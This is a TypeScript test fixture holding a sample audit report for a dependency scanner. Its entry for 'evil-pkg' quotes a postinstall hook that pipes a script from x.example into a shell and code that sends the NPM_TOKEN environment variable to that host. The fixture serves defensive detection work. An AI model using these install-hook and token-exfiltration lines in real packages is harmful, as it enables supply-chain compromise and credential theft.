import type { AuditReport } from '../../src/contract/index.js';

/** One canonical audit, rendered by every audit formatter. */
export const CANONICAL_AUDIT: AuditReport = {
  schemaVersion: 1,
  lockfile: { path: '/repo/package-lock.json', format: 'npm', formatVersion: '3' },
  packages: [
    {
      name: 'evil-pkg', version: '1.0.0', source: 'registry', dev: false, optional: false, key: 'node_modules/evil-pkg', line: 12,
      status: 'ok', capabilities: ['env', 'install-script', 'network', 'shell'], counts: { env: 1, 'install-script': 1, network: 2, shell: 2 },
      runsAtInstall: true, runs: { install: 4, import: 1, call: 1, unreached: 0 },
      install: {
        scripts: { postinstall: 'curl -s https://x.example/p.sh | sh && node setup.js' }, files: ['setup.js'], programs: ['curl'],
        capabilities: ['env', 'install-script', 'network'],
        evidence: [
          { capability: 'env', api: 'process.env.NPM_TOKEN', file: 'setup.js', line: 2, excerpt: 'const t = process.env.NPM_TOKEN;' },
          { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh && node setup.js"' },
          { capability: 'network', api: 'https.get', file: 'setup.js', line: 3, excerpt: "https.get('https://x.example/?t=' + t);" },
        ],
      },
      evidence: [
        { capability: 'shell', api: 'child_process.exec', file: 'lib/index.js', line: 5, excerpt: 'return run(cmd);' },
        { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh"' },
        { capability: 'network', api: 'https.get', file: 'lib/index.js', line: 4, excerpt: "https.get('https://x.example/?t=' + process.env.NPM_TOKEN);" },
        { capability: 'env', api: 'process.env.NPM_TOKEN', file: 'lib/index.js', line: 4, excerpt: "https.get('https://x.example/?t=' + process.env.NPM_TOKEN);" },
      ],
      cached: false,
    },
    {
      name: 'fs-helper', version: '2.3.1', source: 'registry', dev: true, optional: false, key: 'node_modules/fs-helper', line: 30,
      status: 'ok', capabilities: ['filesystem'], counts: { filesystem: 4 },
      evidence: [{ capability: 'filesystem', api: 'fs.readFileSync', file: 'index.js', line: 2, excerpt: "fs.readFileSync(p, 'utf8')" }],
      cached: true,
    },
    {
      name: 'plain', version: '0.1.0', alias: 'plain-alias', source: 'registry', dev: false, optional: true, key: 'node_modules/plain-alias', line: 41,
      status: 'ok', capabilities: [], counts: {}, evidence: [], cached: true,
    },
    // Two platform packages of esbuild: one line in the text and the markdown.
    ...['darwin-arm64', 'linux-x64'].map((platform, i) => ({
      name: `@esbuild/${platform}`, version: '0.21.5', source: 'registry' as const, dev: true, optional: true, key: `node_modules/@esbuild/${platform}`, line: 70 + i,
      family: { parent: 'esbuild', glob: '@esbuild/*' }, status: 'ok' as const, capabilities: ['native'], counts: { native: 1 },
      evidence: [{ capability: 'native', api: platform.startsWith('darwin') ? 'Mach-O binary' : 'ELF binary', file: 'bin/esbuild', line: 1, excerpt: 'binary (9811968 bytes)' }],
      cached: true,
    })),
    {
      name: 'gitdep', version: '0.0.0', source: 'git', dev: false, optional: false, key: 'node_modules/gitdep', line: 50,
      status: 'error', capabilities: [], counts: {}, evidence: [], error: 'unsupported-source: git dependency (git+ssh://git@github.com/u/gitdep.git) is not analysed', cached: false,
    },
  ],
  summary: {
    packages: 6, analyzed: 5, partial: 0, errors: 1, cached: 4, tarballBytes: 0, parsedBytes: 0,
    capabilities: { env: 1, filesystem: 1, 'install-script': 1, native: 2, network: 1, shell: 1 },
    runsAtInstall: 1, installCapabilities: { env: 1, 'install-script': 1, network: 1 },
  },
  diagnostics: [{ key: 'node_modules/broken', line: 60, message: 'malformed integrity "sha512-!!!": ignored' }],
};
